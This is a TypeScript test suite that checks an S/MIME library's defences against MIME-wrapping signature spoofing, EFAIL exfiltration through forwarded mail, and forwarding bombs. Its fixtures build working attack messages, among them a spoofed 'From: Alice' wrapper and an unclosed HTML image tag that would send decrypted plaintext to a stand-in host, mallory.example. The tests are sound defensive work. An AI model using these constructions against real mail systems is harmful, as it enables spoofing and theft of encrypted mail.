/**
 * Issue 12, item 1: forwarded and attached mail is judged on its own.
 *
 * The attacks:
 * - Wrapping (Müller et al., "Johnny, you are fired", USENIX Security 2019, MIME
 *   wrapping): Mallory takes a message Alice signed and sends it on as an attachment,
 *   or as the whole body, of his own message, "From: Alice", with his text first. A
 *   reader that lets the attached signature vouch for the message around it shows
 *   Mallory's text as signed by Alice.
 * - EFAIL through forwarding: an intercepted CBC message, attached to a message the
 *   victim decrypts, must not become a decryption or padding oracle: the attachment
 *   is judged by the same EFAIL rule, every failure the one UNAUTH_ENC, no plaintext.
 * - Forwarding bombs: a chain of thousands of messages attached to one another, or
 *   thousands side by side, must cost only the bounded number opened.
 *
 * Safe behaviour: an attached message's verdict lives in attachedMessages only; the
 * outer message's status, code, signers, exit status and output never depend on it.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { TestPki } from '../helpers/pki.ts';
import { runCli } from '../cli/run-cli.ts';
import { signMessage } from '../../src/smime/sign-message.ts';
import { encryptMessage } from '../../src/smime/encrypt-message.ts';
import { verifyMessage } from '../../src/smime/verify-message.ts';
import { decryptMessage } from '../../src/smime/decrypt-message.ts';
import { decryptAttachedMessages } from '../../src/smime/decrypt-attached-messages.ts';
import { createSignerValidator } from '../../src/pki/create-signer-validator.ts';
import { UnauthenticatedContentError } from '../../src/errors.ts';

const pki = new TestPki('Forwarding Attack Root');
after(() => pki.cleanup());
const alice = pki.identity('rsa2048', 'alice');
const bob = pki.identity('rsa2048', 'bob');
const mallory = pki.identity('rsa2048', 'mallory');
const bobKeys = [{ key: bob.key, certificate: bob.cert }];
const validateSigner = createSignerValidator({ anchors: [pki.caCert], revocation: { mode: 'off' }, fetchCaIssuers: false });

const crlf = (s: string): Buffer => Buffer.from(s.replace(/\r?\n/g, '\r\n'), 'latin1');
const aliceSigned = signMessage(crlf('From: alice@example.com\nTo: bob@example.com\nSubject: Q3\nMIME-Version: 1.0\nContent-Type: text/plain\n\nThe Q3 figures are final.\n'), { signers: [{ certificate: alice.cert, key: alice.key }] });

/** Mallory's message "from Alice": his text, then Alice's signed message attached (or inline, or as the whole body). */
function wrapped(form: 'attachment' | 'inline' | 'body'): Buffer {
  const head = 'From: Alice <alice@example.com>\nTo: johnny@example.com\nSubject: Q3\nMIME-Version: 1.0\n';
  if (form === 'body') return Buffer.concat([crlf(`${head}Content-Type: message/rfc822\n\n`), aliceSigned]);
  const disposition = form === 'attachment' ? 'attachment; filename="Q3.eml"' : 'inline';
  return Buffer.concat([
    crlf(`${head}Content-Type: multipart/mixed; boundary="w"\n\n--w\nContent-Type: text/plain\n\nJohnny, you are fired.\n--w\nContent-Type: message/rfc822\nContent-Disposition: ${disposition}\n\n`),
    aliceSigned,
    crlf('\n--w--\n'),
  ]);
}

test('wrapping: Alice\'s signed message attached to Mallory\'s "From: Alice" never signs his text', async () => {
  for (const form of ['attachment', 'inline', 'body'] as const) {
    const v = await verifyMessage(wrapped(form), { validateSigner });
    assert.equal(v.status, 'unsigned', form);
    assert.equal(v.signers.length, 0, form);
    assert.equal(v.summary, 'The message is not signed.', form);
    assert.equal(v.attachedMessages?.[0]?.verdict?.status, 'trusted', `${form}: Alice's message itself is still hers`);
    assert.equal(v.attachedMessages[0].part, form === 'body' ? '1' : '2');
  }
  // Mallory signs the wrapper himself: his own signature is judged (not Alice), never trusted for From: Alice.
  const signedByMallory = signMessage(wrapped('attachment'), { signers: [{ certificate: mallory.cert, key: mallory.key }] });
  const m = await verifyMessage(signedByMallory, { validateSigner });
  assert.equal(m.status, 'valid-untrusted');
  assert.equal(m.code, 'IDENTITY_MISMATCH');
  assert.deepEqual(m.signers.map((s) => s.email), ['mallory@example.com']);

  // On the command line: exit 1, nothing written.
  const file = join(pki.dir, 'wrapped.eml');
  writeFileSync(file, wrapped('attachment'));
  const out = join(pki.dir, 'wrapped-out.eml');
  const r = await runCli(['verify', '--ca', pki.caPath, '--revocation', 'off', '-i', file, '-o', out]);
  assert.equal(r.status, 1, r.stderr);
  assert.match(r.stderr, /^FAILED: The message is not signed\./);
  assert.throws(() => readFileSync(out), 'no output for an unsigned message');
});

test('an invalid attached message never fails the message holding it', async () => {
  const tampered = Buffer.from(aliceSigned.toString('latin1').replace('final', 'FINAL'), 'latin1');
  const outer = signMessage(Buffer.concat([crlf('From: bob@example.com\nTo: carol@example.com\nSubject: Fwd\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="w"\n\n--w\nContent-Type: text/plain\n\nFYI\n--w\nContent-Type: message/rfc822\n\n'), tampered, crlf('\n--w--\n')]), { signers: [{ certificate: bob.cert, key: bob.key }] });
  const v = await verifyMessage(outer, { validateSigner });
  assert.equal(v.status, 'trusted');
  assert.equal(v.attachedMessages?.[0]?.verdict?.status, 'invalid');
});

test('EFAIL through forwarding: an intercepted CBC message attached is refused alike, intact, with bad padding or garbled, and never opened', async () => {
  const inPath = join(pki.dir, 'cbc-in.txt');
  const outPath = join(pki.dir, 'cbc.der');
  writeFileSync(inPath, crlf('Content-Type: text/plain\n\nThe merger is on.\n'));
  execFileSync('openssl', ['cms', '-encrypt', '-aes-256-cbc', '-binary', '-outform', 'DER', '-in', inPath, '-out', outPath, bob.certPath], { stdio: 'ignore' });
  const der = readFileSync(outPath);
  const flip = (at: number): Buffer => {
    const d = Buffer.from(der);
    d[at]! ^= 0x01;
    return d;
  };
  const variants: Array<[string, Buffer]> = [['intact', der], ['bad padding', flip(der.length - 20)], ['garbled block', flip(der.length - 40)]];
  const summaries = new Set<string>();
  for (const [name, body] of variants) {
    const inner = crlf(`From: alice@example.com\nTo: bob@example.com\nSubject: sealed\nMIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: base64\n\n${body.toString('base64').replace(/.{76}/g, '$&\n')}\n`);
    const outer = encryptMessage(Buffer.concat([crlf('From: mallory@example.net\nTo: bob@example.com\nSubject: Fwd\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="w"\n\n--w\nContent-Type: text/html\n\n<img src="https://mallory.example/?\n--w\nContent-Type: message/rfc822\n\n'), inner, crlf('\n--w--\n')]), { recipients: [{ certificate: bob.cert }] });
    const { message, verdict } = await decryptMessage(outer, { keys: bobKeys, validateSigner });
    const a = verdict.attachedMessages?.[0];
    assert.equal(a?.verdict, undefined, name);
    assert.deepEqual(a?.error, { code: 'UNAUTH_ENC', message: new UnauthenticatedContentError().message }, name);
    assert.ok(!message.includes(Buffer.from('merger')), `${name}: no plaintext in the output`);
    // The gateway's way to decrypt forwarded mail leaves it as received.
    const forwarding = await decryptAttachedMessages(outer, { keys: bobKeys, validateSigner });
    assert.deepEqual(forwarding.decrypted, [], name);
    assert.ok(forwarding.message.equals(message), `${name}: unchanged`);
    summaries.add(a.summary);
    summaries.add(JSON.stringify(verdict.warnings));
  }
  assert.equal(summaries.size, 2, `one summary and one set of warnings for all three: ${[...summaries].join('\n')}`);
});

test('forwarding bombs: a chain of 1,000 forwards and 1,000 attached messages side by side cost only what is opened', async () => {
  let chain = aliceSigned;
  for (let i = 0; i < 1000; i++) chain = Buffer.concat([crlf(`From: bob@example.com\nSubject: Fwd ${i}\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n`), chain]);
  const one = aliceSigned.toString('latin1');
  const wide = Buffer.from(`From: bob@example.com\r\nSubject: digest\r\nMIME-Version: 1.0\r\nContent-Type: multipart/digest; boundary="d"\r\n\r\n${Array.from({ length: 1000 }, () => `--d\r\n\r\n${one}\r\n`).join('')}--d--\r\n`, 'latin1');
  const t = process.cpuUsage();
  const deep = await verifyMessage(chain, { validateSigner });
  let depth = 0;
  for (let v = deep.attachedMessages?.[0]; v; v = v.verdict?.attachedMessages?.[0]) {
    depth++;
    if (!v.verdict) assert.equal(v.error?.code, 'LIMIT');
  }
  assert.equal(depth, 9, 'limits.maxLayers (8) opened, the ninth cut');
  const many = await verifyMessage(wide, { validateSigner });
  assert.equal(many.attachedMessages?.length, 1000);
  assert.equal(many.attachedMessages.filter((a) => a.verdict).length, 32);
  assert.ok(many.attachedMessages.slice(32).every((a) => a.error?.code === 'LIMIT'));
  const used = process.cpuUsage(t);
  assert.ok(used.user + used.system < 20_000_000, `bounded CPU: ${(used.user + used.system) / 1e6} s`);
});
